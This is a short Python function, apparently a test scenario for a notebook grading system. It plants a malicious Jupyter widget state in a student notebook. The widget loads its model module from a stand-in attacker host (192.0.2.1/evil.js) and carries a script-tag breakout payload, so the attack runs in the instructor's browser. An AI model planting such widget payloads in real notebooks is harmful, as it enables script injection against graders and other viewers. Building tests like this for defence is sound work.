"""The instructor's browser: saved widgets whose model comes from another place."""


def attack(notebook, folder):
    notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {
            "version_major": 2, "version_minor": 0,
            "state": {"a": {"model_name": "HTMLModel", "model_module": "http://192.0.2.1/evil.js", "model_module_version": "*",
                            "state": {"value": "</script><script>window.hw1_owned = true</script>"}}},
        }
    }
    notebook["cells"][1]["outputs"] = [
        {"output_type": "display_data", "metadata": {}, "data": {"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}}}
    ]
